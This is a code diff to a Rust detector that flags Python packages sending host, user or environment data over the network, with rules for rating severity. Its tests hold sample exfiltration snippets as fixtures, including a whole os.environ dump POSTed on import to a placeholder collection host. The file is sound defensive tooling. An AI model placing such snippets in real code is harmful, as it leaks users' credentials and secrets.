@@ -4,8 +4,16 @@
 //! every stealer's "beacon home".
 //!
 //! Python code only; needs at least one collector *and* a network sink in code.
-//! Tests/docs skipped; install time Critical.
+//! Tests/docs skipped.
+//!
+//! Severity: one fact (a host name next to a request) Medium. A whole-environment
+//! dump (`dict(os.environ)`, `json.dumps(os.environ)`, `os.environ.copy()`) or a
+//! fingerprint (two or more of user, host, MAC, cwd, uname near the same send) is
+//! exfiltration: High. Install time, or High code that runs on import (at module
+//! level, or in a top-level function the module itself calls, not under
+//! `if __name__ == "__main__"`), Critical.
 
+use super::exec_install_hook::top_blocks;
 use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
 use super::sinks;
 use crate::model::{Category, FileRole, Severity};
@@ -24,6 +32,43 @@ pub static META: DetectorMeta = DetectorMeta {
 static COLLECT: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?-u:\b)(?:platform\.node|platform\.uname|os\.uname|getpass\.getuser|os\.getlogin|socket\.gethostname|socket\.getfqdn|uuid\.getnode|os\.environ\.copy|os\.environ\.items)\s*\(|(?-u:\b)(?:dict|str|repr)\s*\(\s*os\.environ\s*\)|json\.dumps\s*\(\s*(?:dict\s*\(\s*)?os\.environ(?-u:\b)|(?:api\.ipify\.org|ipinfo\.io|ifconfig\.me|icanhazip\.com|checkip\.amazonaws\.com|ip-api\.com|wtfismyip\.com)"#).expect("collect")
 });
+
+/// Weak collectors: common alone, part of a fingerprint next to stronger ones.
+static WEAK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)os\.getcwd\s*\(").expect("weak"));
+static DEF_NAME: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^(?:async\s+)?def\s+([A-Za-z_]\w*)").expect("def name"));
+
+/// Whether code at `off` runs when the module is imported: it is at module level,
+/// or inside a top-level function called at module level (outside a `__main__` guard).
+fn runs_on_import(src: &Source<'_>, blocks: &[(usize, usize)], off: usize) -> bool {
+    let t = src.text;
+    let in_block = |o: usize| blocks.iter().find(|b| b.0 <= o && o < b.1).copied();
+    let main_guarded = |o: usize| {
+        // The closest column-0 code line before `o` opens the block `o` is in.
+        let mut end = t[..o].rfind('\n').unwrap_or(0);
+        while end > 0 {
+            let start = t[..end].rfind('\n').map_or(0, |p| p + 1);
+            let line = &t[start..end];
+            if !line.starts_with([' ', '\t', '#']) && !line.trim().is_empty() && src.is_code(start) {
+                return line.starts_with("if __name__");
+            }
+            end = start.saturating_sub(1);
+        }
+        false
+    };
+    let Some(block) = in_block(off) else {
+        return !main_guarded(off);
+    };
+    let Some(name) = DEF_NAME.captures(&t[block.0..block.1]).and_then(|c| c.get(1)).map(|m| m.as_str()) else {
+        return false;
+    };
+    t.match_indices(name).any(|(i, _)| {
+        let before_ok =
+            t[..i].bytes().next_back().is_none_or(|b| !(b.is_ascii_alphanumeric() || b == b'_' || b == b'.'));
+        let after = t[i + name.len()..].trim_start_matches([' ', '\t']);
+        before_ok && after.starts_with('(') && src.is_code(i) && in_block(i).is_none() && !main_guarded(i)
+    })
+}
 
 /// How far (in lines) collection and sending may be apart.
 const WINDOW_LINES: usize = 25;
@@ -69,7 +114,26 @@ impl Detector for SystemInfo {
         if net.is_empty() {
             return;
         }
-        let sev = Some(if file.role == FileRole::InstallTime { Severity::Critical } else { Severity::Medium });
+        let install = file.role == FileRole::InstallTime;
+        // Distinct collectors near each send line, for the fingerprint rule.
+        let live: Vec<(usize, &str)> = COLLECT
+            .find_iter(file.text)
+            .chain(WEAK.find_iter(file.text))
+            .filter(|m| src.is_live(m.start()))
+            .map(|m| (line_of(m.start()), m.as_str().trim_end_matches('(').trim_end()))
+            .collect();
+        let fingerprint_near = |send_line: usize| {
+            let mut names: Vec<&str> = live
+                .iter()
+                .filter(|(l, _)| l.abs_diff(send_line) <= WINDOW_LINES)
+                .map(|&(_, n)| if n.contains("environ") { "environ" } else { n })
+                .collect();
+            names.sort_unstable();
+            names.dedup();
+            names.len() >= 2
+        };
+        let blocks = std::cell::OnceCell::new();
+        let is_main = file.path.rsplit(['/', '!']).next() == Some("__main__.py");
         let mut n = 0;
         for m in COLLECT.find_iter(file.text) {
             if n >= MAX_HITS_PER_FILE {
@@ -79,18 +143,32 @@ impl Detector for SystemInfo {
                 continue;
             }
             let l = line_of(m.start());
-            let Some(&(_, sink)) =
+            let Some(&(sink_line, sink)) =
                 net.iter().min_by_key(|(sl, _)| sl.abs_diff(l)).filter(|(sl, _)| sl.abs_diff(l) <= WINDOW_LINES)
             else {
                 continue;
             };
             n += 1;
             let raw = m.as_str();
-            let ind = if raw.contains("environ") && !raw.contains("environ.") {
+            let dump = raw.contains("environ");
+            let ind = if dump && !raw.contains("environ.") {
                 "os.environ dump".to_string()
             } else {
                 raw.trim_end_matches('(').trim_end().to_string()
             };
+            let exfil = dump || fingerprint_near(sink_line);
+            let sev = Some(match (install, exfil) {
+                (true, _) => Severity::Critical,
+                (false, false) => Severity::Medium,
+                (false, true) => {
+                    let blocks = blocks.get_or_init(|| top_blocks(&src));
+                    if !is_main && runs_on_import(&src, blocks, m.start()) {
+                        Severity::Critical
+                    } else {
+                        Severity::High
+                    }
+                }
+            });
             let ind = format!("{ind} + {sink}");
             hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
         }
@@ -116,7 +194,49 @@ mod tests {
             &SystemInfo,
             META.id,
             &[
-                ("beacon", "pkg/a.py", Runtime, BEACON, Some((2, "socket.gethostname + requests.post", Medium))),
+                ("beacon at module level", "pkg/a.py", Runtime, BEACON, Some((2, "socket.gethostname + requests.post", Critical))),
+                (
+                    "fingerprint in a function nobody calls on import",
+                    "pkg/a.py",
+                    Runtime,
+                    "def report():\n    info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post(U, json=info)\n",
+                    Some((2, "socket.gethostname + requests.post", High)),
+                ),
+                (
+                    "ctx: env dump POSTed from a function called on import",
+                    "demo_ctx/__init__.py",
+                    Runtime,
+                    "import os, urllib.request, json\ndef _init():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://x.example.org/collect', data=data)\n_init()\n",
+                    Some((3, "os.environ dump + urllib.request.urlopen", Critical)),
+                ),
+                (
+                    "env dump sent from a function called only under __main__",
+                    "pkg/cli.py",
+                    Runtime,
+                    "def dump():\n    requests.post(U, json=dict(os.environ))\nif __name__ == '__main__':\n    dump()\n",
+                    Some((2, "os.environ dump + requests.post", High)),
+                ),
+                (
+                    "user and cwd sent from a method",
+                    "pkg/a.py",
+                    Runtime,
+                    "class C:\n    def f(self):\n        d = {'u': getpass.getuser(), 'cwd': os.getcwd()}\n        requests.post(U, json=d)\n",
+                    Some((3, "getpass.getuser + requests.post", High)),
+                ),
+                (
+                    "one fact (host name) in a telemetry function",
+                    "pkg/a.py",
+                    Runtime,
+                    "def send(ev):\n    ev['server_name'] = socket.gethostname()\n    requests.post(U, json=ev)\n",
+                    Some((2, "socket.gethostname + requests.post", Medium)),
+                ),
+                (
+                    "HOME read and a request",
+                    "pkg/a.py",
+                    Runtime,
+                    "home = os.environ.get('HOME')\ncwd = os.getcwd()\nr = requests.get(U)\n",
+                    None,
+                ),
                 (
                     "setup.py env dump",
                     "setup.py",
